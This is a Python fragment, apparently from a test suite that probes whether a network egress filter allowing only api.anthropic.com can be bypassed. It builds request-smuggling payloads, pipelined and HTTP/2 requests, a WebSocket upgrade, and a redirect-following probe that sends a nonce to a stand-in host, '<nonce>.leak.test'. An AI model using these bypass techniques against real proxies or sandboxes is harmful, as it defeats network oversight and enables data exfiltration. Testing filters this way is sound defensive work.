# Requests of every shape.

GOOD = "api.anthropic.com"


def get(name, *fields, path=None, method="GET", version="HTTP/1.1", body=b""):
    """The nonce is in the path unless a path is given; a name that is None leaves Host out."""
    lines = [f"{method} {path if path is not None else '/' + me.nonce} {version}"]
    lines += [] if name is None else [f"Host: {name}"]
    head = "\r\n".join([*lines, *fields, "", ""])
    return head.encode("latin-1") + body


def segments(data):
    """Cut at each nonce, so that the witness's tap knows the segment even where no server understands it."""
    parts, mark = [], me.nonce.encode()
    while (where := data.find(mark, 1)) > 0:
        parts.append(data[:where])
        data = data[where:]
    return [*parts, data]


def web(address, port, data):
    return tcp(address, port, *segments(data))


def heads(stream):
    """The status of each answer that comes on a connection."""
    got = b""
    try:
        while more := stream.recv(65536):
            got += more
            stream.settimeout(AGAIN)
    except OSError as error:
        got += b"" if got else error_name(error).encode()
    codes = [part[:3].decode() for part in got.split(b"HTTP/1.1 ")[1:]]
    return " ".join(codes) or got[:40].decode("latin-1") or "eof"


def after(first, then):
    """A permitted request, its whole answer, and then another one on the same connection."""
    with connect(me.v4, 80) as stream:
        stream.sendall(first)
        before = heads(stream)
        stream.settimeout(me.wait)
        try:
            for part in segments(then):
                stream.sendall(part)
        except OSError as error:
            return f"{before} then {error_name(error)}"
        return f"{before} then {heads(stream)}"


def at_once(*requests):
    """Requests in one segment."""
    with connect(me.v4, 80) as stream:
        stream.sendall(b"".join(requests))
        return heads(stream)


def hidden():
    """The request that a smuggler hides."""
    return get(f"{me.nonce}.leak.test")


def smuggle(*fields, body, version="HTTP/1.1", line=None):
    """A request to the permitted host with a body or a head that two readers would end at different places."""
    head = line or f"POST /upload {version}"
    text = "\r\n".join([head, f"Host: {GOOD}", *fields, "", ""]).encode("latin-1")
    return tcp(me.v4, 80, *segments(text + body))


def chunks(*pieces, end=b"0\r\n\r\n"):
    return b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in pieces) + end


def h2_frame(kind, flags, stream, content):
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def h2_request(name):
    """Preface, settings, and headers that are not compressed."""
    def literal(key, value):
        key, value = key.encode(), value.encode()
        return b"\x00" + bytes([len(key)]) + key + bytes([len(value)]) + value

    pairs = [(":method", "GET"), (":scheme", "http"), (":path", f"/{me.nonce}"), (":authority", name)]
    block = b"".join(literal(*pair) for pair in pairs)
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + h2_frame(4, 0, 0, b"") + h2_frame(1, 5, 1, block)


UPGRADE = ["Connection: Upgrade", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="]


def follow():
    """What a client does that follows redirections of a permitted host."""
    target = f"http://{me.nonce}.leak.test/{me.nonce}"
    answer = b""
    with connect(me.v4, 80) as stream:
        stream.sendall(get(GOOD, "Connection: close", path=f"/redirect?to={target.replace(me.nonce, 'TARGET')}"))
        while more := stream.recv(65536):
            answer += more
    location = answer.split(b"location: ")[1].split(b"\r\n")[0].decode().replace("TARGET", me.nonce)
    return web(me.v4, 80, get(location.split("/")[2]))
